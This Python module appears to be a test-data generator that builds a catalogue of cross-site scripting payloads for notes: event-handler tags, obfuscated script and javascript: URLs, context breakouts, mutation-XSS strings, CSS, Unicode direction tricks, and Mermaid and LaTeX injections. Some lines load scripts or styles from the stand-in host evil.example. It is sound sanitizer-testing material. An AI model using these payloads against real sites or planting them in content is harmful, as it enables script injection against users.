"""What attackers write into notes, by kind: markup, handlers, addresses, broken contexts, mutations, styles, directions."""
# ruff: noqa: E501  # a payload stands on one line

from __future__ import annotations

from collections.abc import Iterator

RUN = "alert(1)"
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
CARRIERS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=about:blank",
    "object data=x", "embed src=x", "select autofocus", "textarea autofocus", "button autofocus", "marquee", "math", "a href=x",
    "div tabindex=0", "x-own", "table background=x", "dialog open",
)  # fmt: skip
SCRIPTS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script/x>{}</script>", "<script\n>{}</script\n>", "<script>{}</script ",
    "<scr<script>ipt>{}</scr</script>ipt>", "<<script>{}//<</script>", "<script src=data:,{}></script>",
    "<script src=//evil.example/x.js></script>", "<script type=module>{}</script>", "<script type=text/javascript>{};</script>",
    "<svg><script>{}</script></svg>", "<svg><script href=data:,{} />", "<math><script>{}</script></math>",
    "<template><script>{}</script></template>", "<noscript><script>{}</script></noscript>", "<xmp><script>{}</script></xmp>",
    "<plaintext><script>{}</script>", "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>", "<embed src='data:text/html,<script>{}</script>'>",
    "<script\x0c>{}</script>", "<script\x00>{}</script>", "\ufeff<script>{}</script>", "＜script＞{}＜/script＞",
    "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "+ADw-script+AD4-{}+ADw-/script+AD4-",
)  # fmt: skip
ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "java\rscript:{}",
    "\x01javascript:{}", "javascript\t:{}", "javascript&colon;{}", "javascript&#58;{}", "java&Tab;script:{}",
    "java&NewLine;script:{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "&#0000106avascript:{}", "%6aavascript:{}",
    "javascript://%0a{}", "javascript:/*--></title>*/{}", "//javascript:{}", "vbscript:{}", "livescript:{}", "mocha:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={} xmlns='http://www.w3.org/2000/svg'/>", "data:application/xhtml+xml,<x/>",
    "blob:null/0", "filesystem:x", "view-source:x", "about:blank#{}", "jar:x!/y", "feed:javascript:{}", "file:///etc/passwd",
    "\\\\evil.example\\x", "/\\evil.example", "http:evil", "ｊavascript:{}", "javascript\u00a0:{}", "java\u200bscript:{}",
    "jav\u0131script:{}",
)  # fmt: skip
LINKS = ("[x]({})", "[x](<{}>)", "<a href=\"{}\">x</a>", "[x][r]\n\n[r]: {}", "<{}>")  # fmt: skip
BREAKS = (
    "\">", "'>", "`>", "\"/>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</select>",
    "-->", "--!>", "]]>", "*/", "</pre>", "</code>", "</math>", "</svg>", "</main>", "</body></html>", "<!--", "<![CDATA[",
    "<?php ", "<!DOCTYPE x [", "\u2028", "\u2029", "\\", "\\\"", "\x00\">", "';", "\";", "`;", "${", "{{", "{%", "<%=", "#{",
)  # fmt: skip
INJECTED = ("<img src=x onerror={}>", "<script>{}</script>", "{}//")
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror={}></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>", "<svg><desc><img src=x onerror={}></desc></svg>",
    "<svg><a xlink:href=\"javascript:{}\"><text>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x/>#x\"/></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{}>",
    "<svg><image href=x onerror={}>", "<math href=\"javascript:{}\">x</math>", "<math><maction actiontype=statusline xlink:href=javascript:{}>",
    "<table><td><svg><desc><td></desc><img src=x onerror={}>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={}>\">",
    "<a href=x id=document name=getElementById>x</a>", "<form id=kg-main><input name=parentNode></form>",
    "<img src=x alt=`x` onerror={}//`>", "<details open ontoggle={}>", "<base href=javascript:/a/-{}/>", "<meta http-equiv=refresh content=\"0;javascript:{}\">",
    "<link rel=import href=data:text/html,{}>", "<isindex action=javascript:{} type=image>", "<button form=x formaction=javascript:{}>x</button>",
    "<xml id=x><a><b>{}</b></a></xml>", "<bgsound src=javascript:{}>", "<frameset onload={}>", "<keygen autofocus onfocus={}>",
    "<p id=\"kg-main\" class=\"kg-hidden\" lang=\"'><img src=x onerror={}>\">x</p>",
)  # fmt: skip
STYLES = (
    "<style>@import 'javascript:{}';</style>", "<style>body{{background:url(//evil.example/x)}}</style>", "<p style=\"background:url(javascript:{})\">x</p>",
    "<p style=\"width:expression({})\">x</p>", "<p style=\"position:fixed;inset:0;z-index:9999\">x</p>", "<p style=\"behavior:url(x.htc)\">x</p>",
    "<p style=\"-moz-binding:url(x)\">x</p>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{{display:none}}</style>",
    "<font style='animation:x' onanimationend={}>x</font>", "<div class=\"kg-nav\">x</div>", "<input type=password name=p value=x>",
)  # fmt: skip
DIRECTIONS = (
    "a\u202eb\u202cc", "a\u2066b\u2069c", "\u202e)(1trela\u202c", "a\u200bb", "a\u2060b", "\u0430dmin", "раураl", "K\u2115", "a\u0300\u0301" * 20,
    "\ufeffx", "\u202d\u202e\u202d", "x\u00ad", "\u180e", "\U000e0041\U000e0042", "\uffff", "\ud7ff", "\x1b[31mred", "\x07", "\x7f", "\r\nX: y",
)  # fmt: skip
DIAGRAMS = (
    "```mermaid\ngraph TD\nA[\"<img src=x onerror={}>\"] --> B\n```", "```mermaid\ngraph TD\nA-->B\nclick A \"javascript:{}\"\n```",
    "```mermaid\ngraph TD\nA-->B\nclick A call {}\n```", "```mermaid\n%%{{init: {{\"securityLevel\": \"loose\", \"htmlLabels\": true}}}}%%\ngraph TD\nA[\"<svg onload={}>\"]\n```",
    "```mermaid\n---\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA[\"<iframe srcdoc='{}'>\"]\n```", "```mermaid\ngraph TD\nA-->|\"<script>{}</script>\"|B\n```",
    "```mermaid\nsequenceDiagram\nA->>B: <img src=x onerror={}>\n```", "```mermaid\nstateDiagram-v2\nA: <img src=x onerror={}>\n```",
    "```mermaid\nclassDiagram\nclass A\nlink A \"javascript:{}\"\n```", "```mermaid\ngraph TD\nstyle A fill:url(javascript:{})\nA-->B\n```",
)  # fmt: skip
FORMULAS = (
    "$\\href{{javascript:{}}}{{x}}$", "$\\url{{javascript:{}}}$", "$\\htmlClass{{x}}{{y}}$", "$\\includegraphics{{x}}$", "$\\text{{<img src=x onerror={}>}}$",
    "$<script>{}</script>$", "$$\\unicode{{<img src=x onerror={}>}}$$", "$\\class{{\"><img src=x onerror={}>}}{{x}}$", "$x</math><img src=x onerror={}>$",
    "$\\def\\a{{\\a\\a}}\\a$", "$\\style{{background:url(javascript:{})}}{{x}}$",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """Every payload once, in a fixed order."""
    made = [
        f"<{tag} {event}={RUN}>"
        for number, tag in enumerate(CARRIERS)
        for event in (EVENTS[number % 9], EVENTS[(number + 4) % 9])
    ]
    made += [text.format(RUN) for text in (*SCRIPTS, *MUTATIONS, *STYLES, *DIAGRAMS, *FORMULAS)]
    made += [
        LINKS[(number + number // len(ADDRESSES)) % len(LINKS)].format(address.format(RUN))
        for number, address in enumerate(ADDRESSES * 3)
    ]
    made += [broken + INJECTED[(number + more) % 3].format(RUN) for number, broken in enumerate(BREAKS) for more in (0, 1)]
    made += DIRECTIONS
    yield from dict.fromkeys(made)
